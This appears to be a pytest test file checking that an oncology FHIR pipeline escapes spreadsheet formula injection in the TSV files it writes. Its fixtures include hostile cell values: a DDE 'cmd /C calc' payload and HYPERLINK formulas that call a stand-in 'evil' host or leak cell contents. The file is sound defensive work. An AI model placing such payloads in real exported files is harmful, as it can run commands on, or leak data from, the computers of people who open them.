"""Formula injection: every TSV a person may open in a spreadsheet neutralises cells a spreadsheet would run."""

from __future__ import annotations

from pathlib import Path

import pytest
from helpers import DICTIONARIES, ONTOLOGIES
from qc_helpers import dictionary, field, write_inputs

from oncofhir.demo import generate
from oncofhir.dictionary import load_compiled
from oncofhir.ingest import Reject, read_rejects, write_rejects
from oncofhir.pipeline import stage_compile, stage_ingest
from oncofhir.qc import stage_qc
from oncofhir.tsv import cell, to_bytes, unescape


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://x/?"&A1)', '\'=HYPERLINK("http://x/?"&A1)'),
        ("+33 1 23", "'+33 1 23"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("-2+3", "'-2+3"),
        ("-", "'-"),
        ("\t=1", "'\\t=1"),
        ("\r=1", "'\\r=1"),
        ("-5", "-5"),  # plain numbers are numbers to a spreadsheet, not formulas
        ("+1.5e3", "+1.5e3"),
        ("-.5", "-.5"),
        ("'=1", "'=1"),  # already neutral: unchanged, so writing a read cell again changes nothing
        ("a=b", "a=b"),
        ("a\tb\nc\\d", "a\\tb\\nc\\\\d"),
        ("", ""),
    ],
)
def test_cell(value: str, written: str) -> None:
    assert cell(value) == written
    assert cell(unescape(cell(value))) == cell(value)


def test_to_bytes_escapes_header_and_cells() -> None:
    assert to_bytes(["a", "=b"], [["x\ty", -1, "@z"]]) == b"a\t'=b\nx\\ty\t-1\t'@z\n"


def test_rejects_round_trip(tmp_path: Path) -> None:
    path = tmp_path / "rejects.tsv"
    write_rejects([Reject(3, "=cmd|' /C calc'!A0", "ingest", "duplicate record id")], path)
    assert path.read_text().splitlines()[1] == "3\t'=cmd|' /C calc'!A0\tingest\tduplicate record id"
    again = tmp_path / "again.tsv"
    write_rejects(read_rejects(path), again)  # the FHIR stage copies the ingest rejects: no second apostrophe
    assert again.read_bytes() == path.read_bytes()


def test_streamed_rejects_are_the_whole_list_writers_bytes(tmp_path: Path) -> None:
    """write_rejects streams (a generator, one line at a time) yet writes what tsv.to_bytes writes for the list."""
    rejects = [
        Reject(1, "=1+1", "ingest", "a\tb\nc\\d"),
        Reject(2, "-5", "qc", "@SUM(A1)"),
        Reject(3, "\r=x", "fhir", ""),
    ]
    path = tmp_path / "rejects.tsv"
    write_rejects(iter(rejects), path)
    rows = [(r.row, r.record_id, r.stage, r.reason) for r in rejects]
    assert path.read_bytes() == to_bytes(("row", "record_id", "stage", "reason"), rows)
    assert path.read_bytes().splitlines()[1] == b"1\t'=1+1\tingest\ta\\tb\\nc\\\\d"
    assert read_rejects(path)[0] == Reject(1, "'=1+1", "ingest", "a\tb\nc\\d")


def test_ingest_rejects_neutralise_hostile_ids(tmp_path: Path) -> None:
    compiled = tmp_path / "uc1.json"
    stage_compile(DICTIONARIES / "uc1", ONTOLOGIES, compiled)
    lines = generate(load_compiled(compiled), "x", 2, seed=3).splitlines()
    header, row = lines[0], lines[1]
    hostile = ",".join(['"=HYPERLINK(""http://evil/"")"', *row.split(",")[1:]])
    export = tmp_path / "export.csv"
    export.write_text("\n".join([header, row, hostile, hostile]) + "\n", encoding="utf-8")
    stage_ingest(compiled, export, tmp_path / "r.csv", tmp_path / "rejects.tsv", tmp_path / "i.json")
    cells = [line.split("\t") for line in (tmp_path / "rejects.tsv").read_text().splitlines()[1:]]
    assert [c[1] for c in cells] == ['\'=HYPERLINK("http://evil/")'] * 2


def test_qc_failures_neutralise_values_and_ids(tmp_path: Path) -> None:
    dd = dictionary(field("age", validation="integer", min="0", max="110", label="Age"))
    rows = [{"record_id": "@r1", "age": "=1+1"}, {"record_id": "r2", "age": "-5"}]
    compiled, records = write_inputs(tmp_path, dd, rows)
    stage_qc(compiled, records, tmp_path / "qc", center="c")
    lines = (tmp_path / "qc" / "failures.tsv").read_text().splitlines()
    assert [line.split("\t")[:7] for line in lines[1:]] == [
        ["2", "'@r1", "age", "age.datatype", "datatype", "Conformance", "'=1+1"],
        ["3", "r2", "age", "age.range", "range", "Plausibility", "-5"],
    ]
    assert (tmp_path / "qc" / "gate.tsv").read_text().splitlines()[1].split("\t")[1] == "'@r1"
    assert (tmp_path / "qc" / "records.tsv").read_text().splitlines()[1].split("\t")[1] == "'@r1"
